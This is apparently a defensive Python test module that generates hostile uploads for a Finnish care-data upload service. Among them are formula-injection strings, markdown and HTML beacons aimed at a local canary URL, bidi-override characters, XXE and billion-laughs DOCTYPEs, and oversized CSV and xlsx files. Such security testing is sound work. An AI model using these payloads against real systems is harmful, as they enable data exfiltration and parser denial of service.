"""The hostile-input corpus: every case is made here by code, nothing binary is committed.

    python -m tests.hostile.corpus OUT_DIR [CANARY_URL]     # writes the files, for a look or a replay

Each case is an upload a person could make through the page. Text payloads point at a canary URL (a listener
the test runs on 127.0.0.1): if anything (the browser, a parser, LibreOffice) fetched it, the test sees it.
A case either must be refused with one of the given issue codes (the warehouse unchanged), or stored with
its text cleaned: `stored` names the warehouse column and the exact text expected there.
"""
from __future__ import annotations

import datetime as dt
import io
import re
import sys
import zipfile
from dataclasses import dataclass, field
from pathlib import Path

from ..upload_files import CB_HEADER, CG_HEADERS_FI, care_rows, good_care_guarantee, xlsx

SHARED_STRINGS = "xl/sharedStrings.xml"
SHEET1 = "xl/worksheets/sheet1.xml"
WORKBOOK = "xl/workbook.xml"
EXTENT = ("sheet_too_large", "too_many_cells", "too_many_rows")   # a sheet's real extent is too big


@dataclass(frozen=True)
class Case:
    id: str
    dataset: str
    file_name: str
    data: bytes
    refused: tuple[str, ...] = ()          # issue codes, one of which must be reported; () = the file is valid
    stored: tuple[str, str] | None = None  # (table.column, exact clean text) once stored
    may_read: bool = False                 # either outcome is fine (XML tricks): only survival and silence count
    notes: tuple[str, ...] = field(default=())   # text that must be shown literally (escaped) on the page


def payloads(canary: str) -> dict[str, tuple[str, str]]:
    """name -> (what a person typed or a file carried, what the warehouse may hold afterwards)."""
    same = {
        "formula_eq": f'=HYPERLINK("{canary}/eq","Avaa ohje")',
        "formula_plus": "+1+1",
        "formula_minus": "-2+3",
        "formula_at": "@SUM(1+1)",
        "md_image": f"![kuva]({canary}/img.png)",
        "md_link": f"[Avaa ohje]({canary}/link)",
        "html_image": f'<img src="{canary}/html.png">',
        "md_star": "PL101/*",
        "latex": "$x^2$ ja :red[punainen]",
    }
    return {
        "bell": ("Paketti\x07kello", "Pakettikello"),
        "escape": ("a\x1b[31mpunainen", "a[31mpunainen"),
        "vertical_tab": ("rivi\x0bväli", "riviväli"),
        "nul": ("nolla\x00merkki", "nollamerkki"),
        "rtl_override": ("luokitus\u202eslx.csv", "luokitusslx.csv"),
        "bidi_isolate": ("\u2067piilo\u2069teksti", "piiloteksti"),
        "formula_tab": ("\t=1+1", "=1+1"),
        "formula_cr": ("\r=1+1", "=1+1"),
        **{k: (v, v) for k, v in same.items()},
    }


# --- building blocks ---------------------------------------------------------------------------------------
def rezip(data: bytes, changes: dict[str, bytes | None]) -> bytes:
    """The same .xlsx with some members replaced (None drops a member)."""
    src = zipfile.ZipFile(io.BytesIO(data))
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as out:
        for info in src.infolist():
            if info.filename in changes:
                if changes[info.filename] is not None:
                    out.writestr(info.filename, changes[info.filename])
            else:
                out.writestr(info, src.read(info.filename))
    return buf.getvalue()


def _member(data: bytes, name: str) -> bytes:
    return zipfile.ZipFile(io.BytesIO(data)).read(name)


def far_cell(ref: str, dimension: str | None) -> bytes:
    """A valid care-guarantee file plus one cell far away; `dimension` None drops <dimension>, else sets it."""
    base = good_care_guarantee()
    xml = _member(base, SHEET1)
    row = int(re.match(r"[A-Z]+(\d+)", ref).group(1))
    xml = xml.replace(b"</sheetData>", f'<row r="{row}"><c r="{ref}"><v>1</v></c></row></sheetData>'.encode())
    xml = re.sub(rb'<dimension ref="[^"]*"/>', b"" if dimension is None else f'<dimension ref="{dimension}"/>'.encode(),
                 xml)
    return rezip(base, {SHEET1: xml})


def _xml_attr(text: str) -> str:
    return (text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")
            .replace("\t", "&#9;").replace("\r", "&#13;"))


def renamed_sheet(name: str, data: bytes | None = None) -> bytes:
    """The care-guarantee sheet under any name, written straight into workbook.xml (Excel's rules on sheet
    names are the writer's, not the reader's; control characters go in as raw bytes)."""
    data = data or good_care_guarantee()
    wb = _member(data, WORKBOOK).replace(b'name="Hoitotakuu"', f'name="{_xml_attr(name)}"'.encode("utf-8"))
    return rezip(data, {WORKBOOK: wb})


def with_header(extra: str) -> bytes:
    """Valid data with one more column whose header is `extra` (the reader lists it as ignored)."""
    rows = [[*r, "x"] for r in care_rows(dt.date(2026, 8, 1), 3)]
    return _replace_string(xlsx({"Hoitotakuu": [CG_HEADERS_FI + ["OTSIKKO"]] + rows}), "OTSIKKO", extra)


def _replace_string(data: bytes, placeholder: str, text: str) -> bytes:
    """Put `text` (control characters raw) where a shared string said `placeholder`."""
    sst = _member(data, SHARED_STRINGS)
    return rezip(data, {SHARED_STRINGS: sst.replace(placeholder.encode(), _xml_text(text).encode("utf-8"))})


def _xml_text(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def with_doctype(data: bytes, member: str, doctype: str, text_ref: str | None = None) -> bytes:
    """A member of the .xlsx with a DOCTYPE inserted after its XML declaration (XXE, entity expansion);
    `text_ref` (an entity reference) replaces the first shared string's text."""
    xml = _member(data, member)
    head, rest = xml.split(b"?>", 1)
    xml = head + b"?>" + doctype.encode() + rest
    if text_ref:
        xml = re.sub(rb"<t>[^<]*</t>", f"<t>{text_ref}</t>".encode(), xml, count=1)
    return rezip(data, {member: xml})


def classification_line(key_source: str) -> bytes:
    """One partly targeted line whose key source is the payload (CSV with ';', quoted as Excel writes)."""
    quoted = '"' + key_source.replace('"', '""') + '"'
    return (CB_HEADER + f"PL101;*;partial;other;visit_share;;{quoted}\n").encode("utf-8")


def contacts_line(profession: str, point: tuple[int, str], n: int) -> bytes:
    """One month of one service point's phone contacts for a profession (payload), numbers varied by n."""
    pid, muni = point
    quoted = '"' + profession.replace('"', '""') + '"'
    return ("Kuukausi;Toimipiste;Kuntakoodi;Palvelualue;Kanava;Ammattiryhmä;Ikäryhmä;Kontaktit;Asiakkaat\n"
            f"1.10.2026;{pid};{muni};primary_care;phone;{quoted};18-64;{40 + n};{20 + n}\n").encode("utf-8")


def care_file(n: int) -> bytes:
    """A valid care-guarantee file whose numbers differ per n (each stores as a new upload)."""
    return xlsx({"Hoitotakuu": [CG_HEADERS_FI] + care_rows(dt.date(2026, 7, 1), 2 + n)})


def with_error(data: bytes) -> bytes:
    """Make the first data row's count negative so the file has an error and gets an error report."""
    sheet = _member(data, SHEET1)
    sheet = re.sub(rb'(<c r="D2"[^>]*><v>)(\d+)', rb"\1-\2", sheet, count=1)
    return rezip(data, {SHEET1: sheet})


# --- the corpus ---------------------------------------------------------------------------------------------
def cases(canary: str, service_point: tuple[int, str] = (1, "179")) -> list[Case]:
    p = payloads(canary)
    out: list[Case] = []
    binary = {"refused": ("corrupt_file",)}        # a NUL byte makes a CSV binary: refused as a whole
    for name, (raw, clean) in p.items():          # every payload in a stored text column
        out.append(Case(f"key_source-{name}", "child_budget_class", "luokitus.csv", classification_line(raw),
                        **(binary if "\x00" in raw else {"stored": ("child_budget_class.key_source", clean)})))
    for i, name in enumerate(("bell", "nul", "rtl_override", "formula_tab", "formula_at", "md_star")):
        raw, clean = p[name]
        out.append(Case(f"profession-{name}", "contacts", "kontaktit.csv", contacts_line(raw, service_point, i),
                        **(binary if "\x00" in raw else {"stored": ("fact_contacts.profession", clean)})))
    for i, name in enumerate(("bell", "rtl_override", "formula_eq", "md_image")):
        raw, clean = p[name]
        sent = clean.replace('"', "%22")            # chromium's multipart form encodes a quote in a file name
        out.append(Case(f"file_name-{name}", "care_guarantee", f"{raw}.xlsx", care_file(i),
                        stored=("upload_audit.file_name", f"{sent}.xlsx")))
    for i, name in enumerate(("bell", "formula_eq", "md_image", "latex")):
        raw, clean = p[name]
        out.append(Case(f"sheet_name-{name}", "care_guarantee", "hoitotakuu.xlsx",
                        renamed_sheet(raw, care_file(10 + i)), notes=(clean,)))
    for name in ("formula_eq", "md_link", "bell", "html_image"):
        raw, clean = p[name]
        out.append(Case(f"header-{name}", "care_guarantee", "hoitotakuu.xlsx", with_header(raw), notes=(clean,)))
    # an error report that would carry a formula (finding 4): the sheet's name starts with '='
    out.append(Case("error_report-formula_sheet", "care_guarantee", "hoitotakuu.xlsx",
                    renamed_sheet(f'=HYPERLINK("{canary}/r"&E5,"Avaa ohje")', with_error(care_file(20))),
                    refused=("negative",)))
    # far cells (finding 1): the real extent, not <dimension>, decides
    for ref, dim in (("XFD1048576", None), ("XFD1048576", "A1:G87"), ("XFD10000", None), ("XFD10000", "A1:G91"),
                     ("A400000", None), ("AAA5", "A1:G91")):
        out.append(Case(f"far_cell-{ref}-{dim or 'nodim'}", "care_guarantee", "hoitotakuu.xlsx", far_cell(ref, dim),
                        refused=EXTENT))
    out.append(Case("dimension_lies_huge", "care_guarantee", "hoitotakuu.xlsx",
                    rezip(good_care_guarantee(), {SHEET1: _member(good_care_guarantee(), SHEET1).replace(
                        b'<dimension ref="A1:G91"/>', b'<dimension ref="A1:XFD300000"/>')}),
                    refused=EXTENT))
    # CSV shapes (findings 6, 7)
    header = ";".join(CG_HEADERS_FI) + "\n"
    good_lines = "".join(";".join(["1.9.2026", m, "primary_care", "10", "5", "6", "7"]) + "\n" for m in ("179", "410", "182"))
    out += [
        Case("csv-wide_row_5m", "care_guarantee", "leveä.csv", (header + good_lines).encode() + b";" * 5_000_000,
             refused=("csv_line_too_long", "too_many_columns")),
        Case("csv-wide_row_20mb", "care_guarantee", "leveä.csv", (header + good_lines).encode() + b";" * 20_000_000,
             refused=("csv_line_too_long", "too_many_columns")),
        Case("csv-field_200kb", "care_guarantee", "pitkä.csv",
             (header + good_lines + '1.9.2026;179;"' + "x" * 200_000 + '";10;5;6;7\n').encode(),
             refused=("csv_field_too_long", "csv_line_too_long")),
        Case("csv-field_200kb_multiline", "care_guarantee", "pitkä.csv",
             (header + good_lines + '1.9.2026;179;"' + "x\n" * 100_000 + '";10;5;6;7\n').encode(),
             refused=("csv_field_too_long", "csv_line_too_long", "too_many_rows")),
        Case("csv-300_columns", "care_guarantee", "sarakkeet.csv",
             (header.rstrip("\n") + ";" + ";".join(f"s{i}" for i in range(300)) + "\n" + good_lines).encode(),
             refused=("too_many_columns", "too_many_cells")),
    ]
    # XML tricks: no entity is fetched or expanded without bound (the parser refuses or reads it literally)
    lol = ('<!DOCTYPE sst [<!ENTITY a "aaaaaaaaaa">' +
           "".join(f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(9)) + "]>")
    out += [
        Case("xml-xxe_shared_strings", "care_guarantee", "hoitotakuu.xlsx",
             with_doctype(good_care_guarantee(), SHARED_STRINGS, f'<!DOCTYPE sst [<!ENTITY x SYSTEM "{canary}/xxe">]>',
                          "&x;"), may_read=True),
        Case("xml-xxe_parameter_entity", "care_guarantee", "hoitotakuu.xlsx",
             with_doctype(good_care_guarantee(), WORKBOOK, f'<!DOCTYPE w [<!ENTITY % p SYSTEM "{canary}/dtd"> %p;]>'),
             may_read=True),
        Case("xml-billion_laughs", "care_guarantee", "hoitotakuu.xlsx",
             with_doctype(good_care_guarantee(), SHARED_STRINGS, lol, "&j;"), may_read=True),
    ]
    return out


def main(out_dir: str, canary: str = "http://127.0.0.1:9/") -> None:
    out = Path(out_dir)
    out.mkdir(parents=True, exist_ok=True)
    for c in cases(canary.rstrip("/")):
        (out / f"{c.id}__{re.sub(r'[^A-Za-z0-9._-]+', '_', c.file_name)}").write_bytes(c.data)
    print(f"{len(cases(canary))} files in {out}")


if __name__ == "__main__":
    main(*sys.argv[1:])
